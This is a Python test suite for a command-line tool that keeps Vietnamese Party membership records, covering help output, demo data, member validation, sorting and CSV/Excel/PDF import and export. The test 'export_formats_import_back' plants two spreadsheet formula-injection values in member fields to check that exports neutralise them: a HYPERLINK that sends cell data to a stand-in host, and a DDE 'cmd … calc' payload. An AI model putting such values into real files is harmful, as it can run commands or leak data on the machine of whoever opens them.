#!/usr/bin/env python3
"""CLI tests: run the built chibo binary against a fresh database of one
backend (argv[1]: sqlite or pg) and check exit codes, output and the data
left behind.  Standard library only.

Environment (set by tests/meson.build): CHIBO_BIN, CHIBO_TEST_MKDB,
CHIBO_TEST_MKXLSX, CHIBO_TEST_DATA; CHIBO_TEST_PG for PostgreSQL.
"""
import csv
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import unicodedata

from clilib import (BACKEND, BIN, MKXLSX, TODAY, chibo, fail, fresh_db, js,
                    main, ok, test)

TMP = tempfile.mkdtemp(prefix="chibo-cli-")


def members(db, *extra):
    """Every member on the rolls, following the cursor."""
    out, cursor = [], None
    while True:
        args = ["member", "list", "--json", "--limit", "200"] + list(extra)
        if cursor:
            args += ["--cursor", cursor]
        page = js(chibo(*args, db=db))
        out += page["items"]
        cursor = page["next_cursor"]
        if not cursor:
            return out


def org_id(db, code):
    return js(chibo("org", "show", code, "--json", db=db))["id"]




# ------------------------------------------------------------------ usage

# What `chibo --help` and each family's --help list, in that order.
COMMANDS = ["init", "demo", "serve", "import", "export", "member", "org",
            "meeting", "task", "term", "inspection", "discipline",
            "evaluation", "check", "report", "dashboard", "rules", "user",
            "token", "audit", "backup", "restore"]
SUBCOMMANDS = {
    "member": ["list", "show", "add", "edit", "delete", "history", "event",
               "probation"],
    "org": ["list", "show", "add", "edit", "merge", "history", "stats",
            "officer"],
    "meeting": ["list", "show", "add", "edit", "cancel", "attendance",
                "resolution", "score", "pdf", "ics", "report", "vote",
                "minutes", "lock"],
    "task": ["list", "done"],
    "report": ["classification"],
    "discipline": ["list", "show", "add", "edit", "complain", "notice"],
    "evaluation": ["period", "add", "list", "show", "propose", "decide",
                   "calibrate"],
    "term": ["list", "add", "edit", "delete"],
    "inspection": ["programme", "list", "show", "add", "edit", "recommend",
                   "done", "attach"],
    "check": ["meetings", "inspection"],
    "dashboard": ["show", "rebuild", "check"],
    "rules": ["list", "override"],
    "user": ["add", "list", "disable", "enable", "passwd", "grant",
             "revoke"],
    "token": ["create", "list", "revoke"],
    "audit": ["verify", "head", "list"],
}


def help_of(*words):
    """`chibo WORDS --help`: exit 0, nothing on stderr, a usage line for
    exactly these words first, then text; only printable characters and
    newlines (no escape sequences, no tabs)."""
    r = ok(chibo(*words, "--help"))
    assert r.err == "", r
    want = " ".join(("usage: chibo",) + words)
    first = r.out.split("\n", 1)[0]
    assert first == want or first.startswith(want + " "), (words, r)
    assert r.out.endswith("\n") and len(r.out.splitlines()) >= 2, r
    bad = [c for c in r.out if unicodedata.category(c) == "Cc" and c != "\n"]
    assert not bad, (words, bad)
    return r.out


def listed_commands(text):
    """The names in the "Commands:" section of a help text, in order."""
    lines = text.split("\nCommands:\n", 1)[1].split("\n")
    names = []
    for line in lines:
        if not line.startswith("  "):
            break
        names.append(line.split()[0])
    return names


@test
def help_and_exit_codes():
    top = ok(chibo("--help")).out
    assert top.startswith("usage: chibo [--db PATH|URL] [--config FILE] "
                          "COMMAND"), top
    assert listed_commands(top) == COMMANDS, top
    assert "Exit status: 0 success, 1 failure, 2 usage error." in top, top
    assert not [c for c in top if unicodedata.category(c) == "Cc"
                and c != "\n"], top
    # Every command listed has its own help; every family lists exactly
    # its subcommands, and each of those has its own help too.
    for cmd in COMMANDS:
        if cmd in SUBCOMMANDS:
            text = help_of(cmd)
            assert listed_commands(text) == SUBCOMMANDS[cmd], (cmd, text)
            assert f"See 'chibo {cmd} COMMAND --help'." in text, text
            for sub in SUBCOMMANDS[cmd]:
                help_of(cmd, sub)
        elif cmd in ("import", "export"):
            help_of(cmd, "members")
        else:
            help_of(cmd)
    # A subcommand's help names its options.
    text = help_of("member", "add")
    for opt in ("--full-name", "--birth-date", "--citizen-id", "--org",
                "--status", "--json FILE"):
        assert opt in text, (opt, text)
    text = help_of("member", "list")
    for opt in ("--q", "--org", "--status", "--state", "--sort", "--limit",
                "--cursor", "--json"):
        assert opt in text, (opt, text)
    text = help_of("demo")
    for opt in ("--seed", "--scale", "--orgs-only", "--csv", "--if-empty"):
        assert opt in text, (opt, text)
    text = help_of("user", "add")
    assert "--role ROLE --org ORG" in text, text
    assert "admin, office, inspection, secretary, member, viewer" in text
    assert "--format csv|xlsx|pdf|json" in help_of("export", "members")
    assert "--dry-run" in help_of("import", "members")
    assert "--accept-identity" in help_of("import", "members")
    assert "--token" in help_of("import", "members")
    assert "--listen ADDR:PORT" in help_of("serve")

    fail(chibo(), 2)
    fail(chibo("nonsense"), 2)
    r = fail(chibo("member", "lst"), 2)
    assert "did you mean 'list'" in r.err, r
    assert "usage:" in ok(chibo("member", "add", "--help")).out
    assert "--seed" in ok(chibo("demo", "--help")).out
    for fam in ("member", "org", "rules"):
        ok(chibo(fam, "--help"))
    fail(chibo("member", "list", "--bogus"), 2)
    fail(chibo("member", "list", "--limit", "0"), 2)
    fail(chibo("member", "show"), 2)
    fail(chibo("demo", "--seed", "x"), 2)
    assert chibo("--version").out.startswith("chibo ")


@test
def uninitialised_database():
    db = fresh_db("uninit")
    r = fail(chibo("member", "list", db=db))
    assert "chibo init" in r.err, r
    r = fail(chibo("member", "list", db=db, lang="en"))
    assert "not initialised" in r.err, r


# ------------------------------------------------------------------- demo

@test
def init_and_demo():
    db = fresh_db("demo")
    ok(chibo("init", db=db))
    ok(chibo("init", db=db))          # a second time changes nothing
    r = ok(chibo("demo", "--seed", "7", db=db))
    assert "500 members" in r.out, r
    fail(chibo("demo", db=db))        # not on a database with data
    orgs = js(chibo("org", "list", "--json", db=db))
    kinds = [o["kind"] for o in orgs]
    assert kinds.count("upper_grassroots") == 1
    grassroots = kinds.count("grassroots") + kinds.count("grassroots_cell")
    assert grassroots == 16, kinds
    cells = kinds.count("cell") + kinds.count("grassroots_cell")
    assert cells == 40, kinds
    ms = members(db)
    assert len(ms) == 500, len(ms)
    assert len({m["id"] for m in ms}) == 500
    names = {m["full_name"] for m in ms}
    assert len(names) > 400, len(names)
    family = [m["full_name"].split()[0] for m in ms]
    share = family.count("Nguyễn") / len(family)
    assert 0.15 < share < 0.45, share    # the commonest name, as in life
    ethn = {m["ethnicity"] for m in ms}
    assert "Kinh" in ethn and len(ethn) >= 6, ethn
    assert all(len(m["citizen_id"]) == 12 for m in ms)
    assert len({m["citizen_id"] for m in ms}) == 500
    statuses = [m["status"] for m in ms]
    assert 0 < statuses.count("probationary") < 60, statuses.count(
        "probationary")
    for m in ms:
        assert m["birth_date"] < m["admitted_on"] <= TODAY, m
        if m["status"] == "official":
            y, mo, d = m["admitted_on"].split("-")
            assert m["official_on"] == f"{int(y) + 1}-{mo}-{d}" or \
                m["official_on"][:7] == f"{int(y) + 1}-{mo}", m
    # Every cell has at least three official members (no warning).
    for o in orgs:
        if o["kind"] in ("cell", "grassroots_cell"):
            detail = js(chibo("org", "show", str(o["id"]), "--json", db=db))
            assert detail["warnings"] == [], detail
            assert detail["counts"]["official"] >= 3, detail
    root = js(chibo("org", "show", "DB-BDTTG", "--json", db=db))
    assert root["counts"]["members"] == 500, root["counts"]
    assert len(root["children"]) == 16


def strip_volatile(csv_text):
    rows = list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))))
    head = rows[0]
    keep = [i for i, h in enumerate(head)
            if h not in ("created_at", "updated_at")]
    return [[r[i] for i in keep] for r in rows]


@test
def demo_is_deterministic():
    a, b, c = fresh_db("det_a"), fresh_db("det_b"), fresh_db("det_c")
    for db, seed in ((a, "3"), (b, "3"), (c, "4")):
        ok(chibo("init", db=db))
        ok(chibo("demo", "--seed", seed, db=db))
    ea = strip_volatile(ok(chibo("export", "members", "--headers", "keys",
                                   db=a)).out)
    eb = strip_volatile(ok(chibo("export", "members", "--headers", "keys",
                                   db=b)).out)
    ec = strip_volatile(ok(chibo("export", "members", "--headers", "keys",
                                   db=c)).out)
    assert ea == eb
    assert ea != ec


# Real family names (Kinh, and of the peoples the demo draws): a name the
# generator invented would not be here.
REAL_FAMILY = set("""
Nguyễn Trần Lê Phạm Hoàng Huỳnh Phan Vũ Võ Đặng Bùi Đỗ Hồ Ngô Dương Lý Đào
Đoàn Trịnh Trương Đinh Lâm Phùng Mai Tô Hà Tạ Cao Lương Lại Chu Kiều Vương
Quách Thái Tăng Khổng Nông Ma Lục Triệu Bế Đàm Lưu Lò Cầm Lường Quàng Điêu
Vi Tòng Xa Bạch Lăng Vy Lộc Thạch Danh Sơn Kim Chau Giàng Sùng Vàng Thào Mùa
Hầu Lầu Bàn Chảo Hứa Mạc Đàng Thông Quảng Thiên Trượng Diệp Trần Đồng
""".split())
LEADERS = {"Vụ trưởng", "Phó Vụ trưởng", "Chuyên viên cao cấp",
           "Giảng viên cao cấp", "Trưởng phòng", "Phó Trưởng phòng",
           "Chuyên viên chính", "Giảng viên chính"}


def years(a, b):
    """Whole years from ISO date a to ISO date b."""
    ya, ma, da = map(int, a.split("-"))
    yb, mb, db = map(int, b.split("-"))
    return yb - ya - (1 if (mb, db) < (ma, da) else 0)


@test
def demo_is_believable():
    """Over the whole demo: names without a repeated syllable, from real
    family names, with a middle name of the member's gender; ages,
    qualifications, theory level and post that agree; every counted text
    a listed name of the rulebook; admission at 18 or later, official 12
    months on; dossier numbers of one pattern."""
    db = demo_db("believable", "11")
    ms = json.loads(ok(chibo("export", "members", "--format", "json",
                             db=db)).out)
    rules = js(chibo("rules", "list", "--json", db=db))
    listed = {r["id"]: set(r["versions"][0]["values"]["names"])
              for r in rules if r["id"].startswith("ref.")}
    field_list = {"religion": "ref.religions", "job_title": "ref.job_titles",
                  "education": "ref.education",
                  "professional_level": "ref.professional_levels",
                  "theory_level": "ref.theory_levels",
                  "ethnicity": "ref.ethnicities"}
    advanced = leaders_advanced = 0
    dossiers = set()
    for m in ms:
        words = m["full_name"].split()
        low = [w.lower() for w in words]
        assert len(set(low)) == len(low), m["full_name"]
        assert 2 <= len(words) <= 4, m["full_name"]
        assert words[0] in REAL_FAMILY, m["full_name"]
        if m["gender"] == "male":
            assert "Thị" not in words[1:], m["full_name"]
        else:
            assert "Văn" not in words[1:], m["full_name"]
        for f, rule in field_list.items():
            assert m[f] is None or m[f] in listed[rule], (f, m[f])
        age = years(m["birth_date"], TODAY)
        assert 18 <= years(m["birth_date"], m["admitted_on"]), m
        if m["official_on"]:
            y, mo, d = m["admitted_on"].split("-")
            assert m["official_on"][:7] == f"{int(y) + 1}-{mo}", m
        prof, th, job = (m["professional_level"], m["theory_level"],
                         m["job_title"])
        assert not (prof == "Tiến sĩ" and age < 28), m
        assert not (prof == "Thạc sĩ" and age < 24), m
        assert not (th in ("Cao cấp", "Cử nhân") and age < 33), m
        assert not (th == "Trung cấp" and age < 25), m
        assert not (job in LEADERS and age < 30), m
        assert not (job in ("Vụ trưởng", "Chuyên viên cao cấp",
                            "Giảng viên cao cấp") and age < 40), m
        assert not (job == "Giảng viên cao cấp" and
                    prof not in ("Tiến sĩ", "Tiến sĩ khoa học")), m
        if th == "Cao cấp":
            advanced += 1
            leaders_advanced += job in LEADERS
        assert re.fullmatch(r"001-\d{6}", m["dossier_no"]), m["dossier_no"]
        dossiers.add(m["dossier_no"])
    assert len(dossiers) == len(ms) == 500
    # Senior theory is mostly the leaders' (the rest: senior grades
    # counted above, and a few experts past 35).
    assert advanced > 0 and leaders_advanced * 3 > advanced * 2, \
        (advanced, leaders_advanced)


# ---------------------------------------------------------------- members

def demo_db(name, seed="1"):
    db = fresh_db(name)
    ok(chibo("init", db=db))
    ok(chibo("demo", "--seed", seed, db=db))
    return db


GOOD = ["--full-name", "Nguyễn Thị Minh Khai", "--gender", "female",
        "--birth-date", "10/03/1990", "--admitted-on", "15/05/2015",
        "--admission-decision-date", "2015-05-02",
        "--official-on", "15/05/2016", "--status", "official",
        "--citizen-id", "001190012345", "--ethnicity", "kinh",
        "--org", "CB-VP-1", "--phone", "0912 345 678"]


@test
def member_add_show_history():
    db = demo_db("add")
    r = ok(chibo("member", "add", *GOOD, db=db))
    mid = r.out.split()[2]
    m = js(chibo("member", "show", mid, "--json", db=db))
    assert m["full_name"] == "Nguyễn Thị Minh Khai"
    assert m["birth_date"] == "1990-03-10"          # dd/mm/yyyy accepted
    assert m["ethnicity"] == "Kinh"                  # written as listed
    assert m["org_id"] == org_id(db, "CB-VP-1")
    r = ok(chibo("member", "show", mid, db=db))
    assert "10/03/1990" in r.out and "Chính thức" in r.out, r
    h = js(chibo("member", "history", mid, "--json", db=db))
    kinds = [e["kind"] for e in h]
    assert kinds == ["admitted", "made_official", "record_created"], kinds
    assert all(e["recorded_by"].startswith("cli:") for e in h)
    # Found by a search without tone marks, and by NFD input.
    found = js(chibo("member", "list", "--json", "--q", "nguyen thi minh",
                     db=db))["items"]
    assert mid in [str(x["id"]) for x in found]
    nfd = unicodedata.normalize("NFD", "Khai Nguyễn Thị")
    found = js(chibo("member", "list", "--json", "--q", nfd, db=db))["items"]
    assert [x["full_name"] for x in found] == ["Nguyễn Thị Minh Khai"], found
    found = js(chibo("member", "list", "--json", "--q", "001190012345",
                     db=db))["items"]
    assert [str(x["id"]) for x in found] == [mid]
    # Duplicate citizen ID: refused, the field named.
    dup = list(GOOD)
    dup[dup.index("Nguyễn Thị Minh Khai")] = "Trần Văn B"
    r = fail(chibo("member", "add", *dup, db=db, lang="en"))
    assert "Citizen ID" in r.err and "Another record" in r.err, r
    # Edit, with the version check.
    ok(chibo("member", "edit", mid, "--job-title", "Chuyên viên chính",
             "--if-version", "1", db=db))
    r = fail(chibo("member", "edit", mid, "--job-title", "Khác",
                   "--if-version", "1", db=db))
    assert "thay đổi" in r.err, r
    m = js(chibo("member", "show", mid, "--json", db=db))
    assert m["job_title"] == "Chuyên viên chính" and m["version"] == 2
    h = js(chibo("member", "history", mid, "--json", db=db))
    upd = [e for e in h if e["kind"] == "record_updated"]
    assert upd and upd[0]["details"]["changes"]["job_title"] == {
        "from": None, "to": "Chuyên viên chính"}, upd
    # Delete: gone from lists, the citizen ID free again.
    ok(chibo("member", "delete", mid, db=db))
    fail(chibo("member", "show", mid, db=db))
    ok(chibo("member", "add", *GOOD, db=db))


@test
def member_add_rejects_with_rules():
    db = demo_db("rules_reject")
    before = len(members(db))
    bad = list(GOOD)
    bad[bad.index("10/03/1990")] = "01/12/1997"   # 17 years 5 months
    r = fail(chibo("member", "add", *bad, db=db))
    # Admitted in 2015: judged by the rule in force then, the Charter's.
    assert "member.admission_age" in r.err and "Điều lệ Đảng" in r.err, r
    assert "18" in r.err, r
    late = list(bad)                                 # the same age in 2025
    for old_, new_ in (("15/05/2015", "15/05/2025"),
                       ("2015-05-02", "2025-05-02"),
                       ("15/05/2016", "15/05/2026"),
                       ("01/12/1997", "01/12/2007")):
        late[late.index(old_)] = new_
    r = fail(chibo("member", "add", *late, db=db))
    assert "24-QĐ/TW" in r.err, r
    bad = list(GOOD)
    bad[bad.index("15/05/2016")] = "16/05/2016"
    r = fail(chibo("member", "add", *bad, db=db))
    # (Dates in messages read dd/mm/yyyy, issue 11.)
    assert "member.probation" in r.err and "15/05/2016" in r.err, r
    bad = list(GOOD)
    bad[bad.index("001190012345")] = "00119001234"
    r = fail(chibo("member", "add", *bad, db=db, lang="en"))
    assert "12 digits" in r.err and "member.citizen_id" in r.err, r
    bad = list(GOOD)
    bad[bad.index("CB-VP-1")] = "DBCS-VP"          # a committee, not a cell
    r = fail(chibo("member", "add", *bad, db=db))
    assert "org.member_holding_kinds" in r.err, r
    bad = list(GOOD)
    bad[bad.index("10/03/1990")] = "31/02/1990"
    r = fail(chibo("member", "add", *bad, db=db))
    assert "31/02/1990" in r.err or "Ngày sinh" in r.err, r
    bad = list(GOOD) + ["--ethnicity", "Elf"]
    r = fail(chibo("member", "add", *bad, db=db))
    assert "ref.ethnicities" in r.err, r
    r = fail(chibo("member", "add", "--full-name", "X Y", db=db))
    for label in ("Giới tính", "Ngày sinh", "Ngày vào Đảng", "Tổ chức đảng"):
        assert label in r.err, (label, r)
    assert len(members(db)) == before


@test
def member_probation():
    db = demo_db("probation")
    r = ok(chibo("member", "probation", db=db))
    assert "member.probation_notice" in r.out and "294-QĐ/TW" in r.out, r
    assert "Sắp đến" in r.out, r
    rep = js(chibo("member", "probation", "--json", db=db))
    assert rep["on"] == TODAY and rep["notice_days"] == 60, rep
    assert rep["items"] and all(x["state"] == "due" and 0 <= x["days"] <= 60
                                for x in rep["items"]), rep
    due = [x["member_id"] for x in rep["items"]]
    # Four months on, the same members are past it, still probationary.
    later = {"CHIBO_TODAY": "2027-03-30"}
    rep = js(chibo("member", "probation", "--json", db=db, env=later))
    over = [x["member_id"] for x in rep["items"] if x["state"] == "overdue"]
    assert set(due) <= set(over), (due, rep)
    # --all: every probationary member of the scope.
    every = js(chibo("member", "probation", "--all", "--json", db=db))
    n = len(members(db, "--status", "probationary"))
    assert len(every["items"]) == n, (len(every["items"]), n)
    one = every["items"][0]
    rep = js(chibo("member", "probation", "--all", "--json", "--org",
                   str(one["org_id"]), db=db))
    assert rep["items"] and all(x["org_id"] == one["org_id"]
                                for x in rep["items"]), rep
    r = fail(chibo("member", "probation", "--org", "KHONG-CO", db=db,
                   lang="en"))
    assert "organisation" in r.err.lower(), r
    r = chibo("member", "probation", "--colour", db=db)
    assert r.code == 2, r


@test
def org_officers():
    db = demo_db("officers")
    cell = js(chibo("org", "show", "CB-VP-1", "--json", db=db))
    ms = members(db, "--org", "CB-VP-1")
    a, b = ms[0], ms[1]
    r = ok(chibo("org", "officer", "add", "CB-VP-1", "--member", str(a["id"]),
                 "--position", "secretary", "--from", "01/06/2025", "--doc",
                 "45-QĐ/ĐU", db=db))
    assert "Bí thư" in r.out and a["full_name"] in r.out, r
    t = js(chibo("org", "officer", "add", "CB-VP-1", "--member",
                 str(b["id"]), "--position", "committee_member", "--from",
                 "2025-06-01", "--to", "31/05/2030", "--json", db=db))
    assert t["ended_on"] == "2030-05-31" and t["org_id"] == cell["id"], t
    r = ok(chibo("org", "officer", "list", "CB-VP-1", db=db))
    lines = r.out.splitlines()
    assert lines[0].startswith("Bí thư") and a["full_name"] in lines[0], r
    assert "01/06/2025" in lines[0] and "45-QĐ/ĐU" in lines[0], r
    assert "Cấp ủy viên" in lines[1] and "31/05/2030" in lines[1], r
    got = js(chibo("org", "officer", "list", "CB-VP-1", "--json", db=db))
    assert [x["member_id"] for x in got["items"]] == [a["id"], b["id"]], got
    kinds = [e["kind"] for e in
             js(chibo("org", "history", "CB-VP-1", "--json", db=db))]
    assert kinds.count("officer_appointed") == 2, kinds
    # Refused with every reason, in English on request.
    outsider = members(db, "--org", "CB-VP-2")[0]
    r = fail(chibo("org", "officer", "add", "CB-VP-1", "--member",
                   str(outsider["id"]), "--position", "secretary", "--from",
                   "01/01/2027", db=db, lang="en"))
    assert "does not belong" in r.err and "after today" in r.err, r
    r = fail(chibo("org", "officer", "add", "CB-VP-1", "--member",
                   str(a["id"]), "--position", "chief", "--from",
                   "01/01/2026", db=db))
    assert "secretary" in r.err, r
    fail(chibo("org", "officer", "add", "CB-VP-1", "--member", "x", db=db),
         code=2)
    fail(chibo("org", "officer", "remove", "CB-VP-1", db=db), code=2)
    assert len(js(chibo("org", "officer", "list", "CB-VP-1", "--all",
                        "--json", db=db))["items"]) == 2


@test
def member_events():
    db = demo_db("events")
    prob = members(db, "--status", "probationary")[0]
    mid = str(prob["id"])
    # Not yet official today...
    r = fail(chibo("member", "event", mid, "made_official", "--on", TODAY,
                   db=db))
    assert "member.probation" in r.err or "chính thức" in r.err, r
    # ...but a year on it is, on the date the probation ends.
    later = {"CHIBO_TODAY": "2027-12-01"}
    ok(chibo("member", "event", mid, "made_official", "--on", "2027-11-30",
             "--doc", "12-QĐ/ĐU", db=db, env=later))
    m = js(chibo("member", "show", mid, "--json", db=db))
    y, mo, d = prob["admitted_on"].split("-")
    assert m["status"] == "official"
    assert m["official_on"][:4] == str(int(y) + 1)
    # Moved, then died: off the rolls, kept in history.
    ok(chibo("member", "event", mid, "moved", "--on", "2027-11-30", "--org",
             "CB-BTG-2", db=db, env=later))
    ok(chibo("member", "event", mid, "died", "--on", "2027-11-30", db=db,
             env=later))
    assert mid not in [str(x["id"]) for x in members(db)]
    assert mid in [str(x["id"]) for x in members(db, "--state", "died")]
    kinds = [e["kind"] for e in
             js(chibo("member", "history", mid, "--json", db=db))]
    for k in ("made_official", "moved", "died"):
        assert k in kinds, kinds
    r = fail(chibo("member", "event", mid, "exempted", "--on", "2027-11-30",
                   db=db, env=later))
    fail(chibo("member", "event", mid, "bogus", "--on", TODAY, db=db))


# ------------------------------------------------------------------ order

@test
def vietnamese_order():
    db = demo_db("order")
    ok(chibo("org", "add", "--kind", "cell", "--name", "Chi bộ Thử",
             "--code", "CB-THU", "--parent", "DBCS-VP", "--from",
             "2025-06-01", db=db))
    names = ["Vũ Văn Bình", "Lê Thị Bình", "Đỗ Văn Bình", "Hồ Thị Bích",
             "Dương Văn Bảo"]
    for i, n in enumerate(names):
        ok(chibo("member", "add", "--full-name", n, "--gender", "male",
                 "--birth-date", "1980-01-01", "--admitted-on", "2010-01-01",
                 "--status", "official", "--official-on", "2011-01-01",
                 "--org", "CB-THU", "--citizen-id", f"00108000000{i}",
                 db=db))
    got = [m["full_name"] for m in members(db, "--org", "CB-THU")]
    assert got == ["Dương Văn Bảo", "Hồ Thị Bích", "Đỗ Văn Bình",
                   "Lê Thị Bình", "Vũ Văn Bình"], got
    got = [m["full_name"] for m in
           members(db, "--org", "CB-THU", "--sort", "-name")]
    assert got == ["Vũ Văn Bình", "Lê Thị Bình", "Đỗ Văn Bình",
                   "Hồ Thị Bích", "Dương Văn Bảo"], got


@test
def pagination_visits_everyone_once():
    db = demo_db("pages")
    seen = []
    cursor = None
    while True:
        args = ["member", "list", "--json", "--limit", "37"]
        if cursor:
            args += ["--cursor", cursor]
        page = js(chibo(*args, db=db))
        seen += [m["id"] for m in page["items"]]
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert len(seen) == 500 and len(set(seen)) == 500
    fail(chibo("member", "list", "--cursor", "garbage", db=db))


# ---------------------------------------------------------- import/export

@test
def export_import_round_trip():
    a = demo_db("exp_a", "5")
    b = demo_db("exp_b", "6")
    path = os.path.join(TMP, f"export-{BACKEND}.csv")
    ok(chibo("export", "members", "--output", path, db=a))
    with open(path, "rb") as f:
        assert f.read(3) == b"\xef\xbb\xbf"       # a BOM, for Excel
    # Its own export changes nothing.
    r = ok(chibo("import", "members", path, db=a, lang="en"))
    assert "500 rows" in r.out and "0 created" in r.out and \
        "500 unchanged" in r.out, r
    # Into another committee: all new, then nothing on a second run.
    r = ok(chibo("import", "members", path, db=b, lang="en"))
    assert "500 created" in r.out, r
    r = ok(chibo("import", "members", path, db=b, lang="en"))
    assert "0 created, 0 updated, 500 unchanged" in r.out, r
    assert len(members(b)) == 1000
    js_out = js(chibo("export", "members", "--format", "json", "--org",
                      "CB-VP-1", db=a))
    assert js_out and all(m["org_code"] == "CB-VP-1" for m in js_out)


@test
def export_formats_import_back():
    """Vietnamese CSV headers by default, keys on request, Excel and PDF
    with -o; CSV and Excel import back unchanged, formula cells too."""
    db = demo_db("exp_fmt", "7")
    formula = ['--hometown', '=HYPERLINK("http://x"&A1,"bấm")',
               '--birthplace', "+1+cmd|' /C calc'!A0"]
    args = [a for a in GOOD]
    args[args.index("--citizen-id") + 1] = "001190054321"
    mid = ok(chibo("member", "add", *args, *formula, db=db)).out.split()[2]
    before = js(chibo("member", "show", mid, "--json", db=db))
    help_text = ok(chibo("export", "members", "--help")).out
    assert "--headers labels|keys" in help_text and \
        "-o|--output FILE" in help_text
    for name, extra in (("vi.csv", []), ("keys.csv", ["--headers", "keys"]),
                        ("list.xlsx", ["--format", "xlsx"])):
        path = os.path.join(TMP, f"fmt-{BACKEND}-{name}")
        ok(chibo("export", "members", *extra, "-o", path, db=db))
        with open(path, "rb") as f:
            data = f.read()
        if name == "vi.csv":
            head = data.decode("utf-8-sig").splitlines()[0]
            assert head.startswith("Mã số,Họ và tên,Giới tính,Ngày sinh,"), \
                head
            assert '"\'=HYPERLINK(""http://x""&A1,""bấm"")"' in \
                data.decode(), "formula not quoted"
        elif name == "keys.csv":
            assert data.decode("utf-8-sig").startswith("id,full_name,")
        else:
            assert data[:2] == b"PK"
        r = ok(chibo("import", "members", path, "--dry-run", db=db,
                     lang="en"))
        assert "501 rows" in r.out and \
            "0 created, 0 updated, 501 unchanged" in r.out, (name, r)
        ok(chibo("import", "members", path, db=db, lang="en"))
        now = js(chibo("member", "show", mid, "--json", db=db))
        assert now == before, (name, now)
    # PDF: the Party header and the cell's members.
    path = os.path.join(TMP, f"fmt-{BACKEND}.pdf")
    ok(chibo("export", "members", "--format", "pdf", "--org", "CB-VP-1",
             "-o", path, db=db))
    text = subprocess.run(["pdftotext", "-layout", path, "-"], check=True,
                          capture_output=True).stdout.decode()
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in text and \
        "DANH SÁCH ĐẢNG VIÊN" in text and "Trang 1/" in text, text[:600]
    assert "Nguyễn Thị Minh Khai" in text, text
    fail(chibo("export", "members", "--format", "docx", db=db), 2)
    fail(chibo("export", "members", "--headers", "vi", db=db), 2)

HEADER_VI = ("STT;Họ và tên;Giới tính;Ngày sinh;Dân tộc;Số CCCD;"
             "Ngày vào Đảng;Ngày chính thức;Loại đảng viên;Mã chi bộ")


def vi_rows():
    return [
        "1;Nguyễn Văn Dũng;Nam;12/04/1985;Kinh;001085001111;"
        "03/02/2010;03/02/2011;Chính thức;CB-VP-1",
        "2;Hoàng Thị Nguyệt;Nữ;05/11/1992;Tày;004192002222;"
        "19/05/2020;19/05/2021;Chính thức;CB-VP-2",
        "3;Lò Văn Ết;Nam;20/08/1999;Thái;014099003333;"
        "02/09/2026;;Dự bị;CB-BTG-1",
    ]


def cp1258(text):
    """Encodes text as Windows-1258 the way Vietnamese Windows does: base
    letters precomposed where the code page has them, tone marks
    combining."""
    tones = "\u0300\u0301\u0303\u0309\u0323"
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            d = unicodedata.normalize("NFD", ch)
            base = unicodedata.normalize(
                "NFC", "".join(c for c in d if c not in tones))
            tone = "".join(c for c in d if c in tones)
            out += base.encode("cp1258") + tone.encode("cp1258")
    return bytes(out)


@test
def import_vietnamese_headers_and_encodings():
    for enc in ("utf8", "utf8bom", "cp1258", "xlsx"):
        db = demo_db(f"imp_{enc}")
        text = "\r\n".join([HEADER_VI] + vi_rows()) + "\r\n"
        path = os.path.join(TMP, f"vi-{BACKEND}-{enc}.csv")
        with open(path, "wb") as f:
            if enc == "cp1258":
                f.write(cp1258(text))
            elif enc == "utf8bom":
                f.write(b"\xef\xbb\xbf" + text.encode())
            else:
                f.write(text.encode())
        if enc == "xlsx":
            xpath = path[:-4] + ".xlsx"
            subprocess.run([MKXLSX, path, xpath], check=True)
            path = xpath
        r = ok(chibo("import", "members", path, db=db, lang="en"))
        assert "3 rows" in r.out and "3 created" in r.out, (enc, r)
        got = {m["citizen_id"]: m for m in members(db, "--q", "0")}
        found = js(chibo("member", "list", "--json", "--q", "nguyen van dung",
                         db=db))["items"]
        assert any(m["citizen_id"] == "001085001111" for m in found), enc
        m = [x for x in found if x["citizen_id"] == "001085001111"][0]
        assert m["full_name"] == "Nguyễn Văn Dũng", (enc, m)
        assert m["birth_date"] == "1985-04-12" and m["official_on"] == \
            "2011-02-03", (enc, m)
        tay = js(chibo("member", "list", "--json", "--q", "004192002222",
                       db=db))["items"]
        assert tay and tay[0]["full_name"] == "Hoàng Thị Nguyệt" and \
            tay[0]["ethnicity"] == "Tày" and tay[0]["gender"] == "female", \
            (enc, tay)
        del got
        r = ok(chibo("import", "members", path, db=db, lang="en"))
        assert "3 unchanged" in r.out, (enc, r)


@test
def import_all_or_nothing():
    db = demo_db("imp_bad")
    before = members(db)
    rows = vi_rows()
    rows[0] = rows[0].replace("12/04/1985", "31/02/1985")   # row 2
    rows[2] = rows[2].replace("CB-BTG-1", "CB-KHONG-CO")     # row 4
    rows.append("4;Trần Văn Em;Nam;01/01/2012;Kinh;001012004444;"
                "01/01/2026;;Dự bị;CB-VP-1")                # row 5: too young
    rows.append(rows[1])                                     # row 6: repeat
    path = os.path.join(TMP, f"bad-{BACKEND}.csv")
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join([HEADER_VI] + rows) + "\n")
    r = fail(chibo("import", "members", path, db=db))
    for where in ("dòng 2, Ngày sinh", "dòng 4, Mã chi bộ",
                  "dòng 5, Ngày vào Đảng", "dòng 6, Số CCCD"):
        assert where in r.err, (where, r)
    assert "member.admission_age" in r.err, r
    # (By the citizen ID: the demo may have a Nguyễn Văn Dũng of its own.)
    assert "001085001111" not in str(members(db))
    assert members(db) == before
    r = fail(chibo("import", "members", os.path.join(TMP, "missing.csv"),
                   db=db))
    with open(path, "w", encoding="utf-8") as f:
        f.write("Họ và tên;Màu yêu thích\nA B;xanh\n")
    r = fail(chibo("import", "members", path, db=db, lang="en"))
    assert "Màu yêu thích" in r.err and "Gender" in r.err, r
    # --dry-run reports but never writes.
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join([HEADER_VI] + vi_rows()) + "\n")
    r = ok(chibo("import", "members", path, "--dry-run", db=db, lang="en"))
    assert "checked 3 rows" in r.out, r
    assert members(db) == before


@test
def import_identity_conflict_accept():
    """A row with a stored member's citizen ID but another name and birth
    date is a conflict naming that member; --accept-identity applies it,
    and refuses a row without a conflict."""
    db = demo_db("imp_ident")
    path = os.path.join(TMP, f"ident-{BACKEND}.csv")
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join([HEADER_VI] + vi_rows()) + "\n")
    ok(chibo("import", "members", path, db=db, lang="en"))
